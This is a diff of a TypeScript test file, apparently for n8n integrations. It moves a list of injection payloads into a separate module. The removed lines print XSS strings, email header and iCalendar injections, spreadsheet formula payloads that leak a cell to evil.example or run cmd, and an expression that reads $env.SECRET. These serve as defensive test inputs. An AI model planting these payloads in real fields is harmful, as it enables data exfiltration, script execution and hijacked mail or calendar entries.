@@ -5,6 +5,7 @@ import { flat, user } from '../support/callbacks';
 import type { Fields } from '../support/callbacks';
 import { jsonOf } from '../support/run';
 import { itemOf, openTrigger } from '../support/webhook';
+import { ATTACKS } from './attacks';
 
 /* What a malicious callback does in a message, a row, a contact and a calendar file, all the way from its request. */
 
@@ -26,43 +27,6 @@ const file = {
 	...{ resource: 'calendar', operation: 'createFile' },
 	options: { organizerEmail: 'owner@clinic.example', alarmMinutes: 60 },
 };
-
-/** Attacks, by what they aim at. */
-const ATTACKS: ReadonlyArray<[string, string]> = [
-	['a script', '<script>alert(1)</script>'],
-	['a picture that fails', '<img src=x onerror=alert(1)>'],
-	['the end of an attribute', '" onmouseover="alert(1)'],
-	['the end of a tag', '</p></b></a><iframe src="https://evil.example">'],
-	['a link of its own', '<a href="https://evil.example">Pay here</a>'],
-	['markup that is escaped already', '&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;'],
-	['Telegram tags', '<tg-spoiler>x</tg-spoiler><a href="tg://user?id=1">y</a><code>'],
-	['a header', 'Anna\r\nBcc: everybody@evil.example'],
-	['a header behind a lone line end', 'Anna\nContent-Type: text/html\n\n<b>x</b>'],
-	['unusual line ends', 'Anna\u2028Bcc: a@evil.example\u2029\u0085Bcc: b@evil.example\u000bx'],
-	['an address with a header', 'anna@example.com\r\nBcc: everybody@evil.example'],
-	['several addresses', 'anna@example.com, everybody@evil.example'],
-	['a script as a link', 'javascript:alert(document.cookie)'],
-	['a script as a link, spelled oddly', ' \u0001jAvA\tscript:alert(1)'],
-	['data as a link', 'data:text/html,<script>alert(1)</script>'],
-	['a link that ends its attribute', 'https://evil.example/" onclick="alert(1)'],
-	['a link with a line end', 'https://evil.example/\r\nBcc: a@evil.example'],
-	['another event', 'x\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nSUMMARY:evil'],
-	[
-		'an alarm that runs a program',
-		'x\nBEGIN:VALARM\nACTION:PROCEDURE\nATTACH:evil.exe\nEND:VALARM',
-	],
-	['an attendee', 'x\r\nATTENDEE:mailto:evil@evil.example'],
-	['another parameter of an attendee', 'x";ROLE=CHAIR:mailto:evil@evil.example'],
-	['escapes of a calendar', "x\\nATTENDEE:mailto:evil@evil.example\\;\\,^n^'"],
-	['a formula', '=HYPERLINK("https://evil.example?leak="&A1,"Details")'],
-	['a formula with a plus', '+IMPORTDATA("https://evil.example")'],
-	['a formula with a minus', "-2+3+cmd|' /C calc'!A0"],
-	['a formula with an at sign', "@SUM(1+1)*cmd|' /C calc'!A0"],
-	['a formula behind a tab', '\t=1+1'],
-	['a formula in wide letters', '＝HYPERLINK("https://evil.example")'],
-	['an expression of n8n', '={{ $env.SECRET }}'],
-	['text that turns round', '\u202egnp.exe\u0000'],
-];
 
 /** A callback with the text wherever people or companies can write. */
 function poisoned(type: string, text: string): Fields {
